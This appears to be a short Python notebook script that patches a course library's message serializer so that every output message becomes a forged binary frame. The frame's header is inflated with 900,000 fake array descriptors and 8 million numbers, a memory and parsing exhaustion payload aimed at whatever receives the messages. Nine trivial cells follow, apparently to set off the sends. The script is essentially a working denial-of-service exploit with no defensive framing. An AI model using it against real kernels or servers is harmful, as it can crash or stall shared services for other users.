"""With what each cell puts out come millions of numbers, and of arrays that nobody uses."""
import json, struct
from coursekit import plain
real = plain.to_bytes
def forged(message, *more):
    head = json.dumps({"tree": {**message, "besides": "@@"}, "kinds": "@@@", "arrays": []})
    head = head.replace('"@@@"', "[" + ",".join(['["|b1",[0],"C"]'] * 900_000) + "]")
    head = head.replace('"@@"', "[" + ",".join(["1"] * 8_000_000) + "]").encode()
    return plain.MAGIC + struct.pack(">I", len(head)) + head
plain.to_bytes = lambda m, *more: forged(m) if "outputs" in m else real(m, *more)
# %%
1
# %%
2
# %%
3
# %%
4
# %%
5
# %%
6
# %%
7
# %%
8
# %%
9
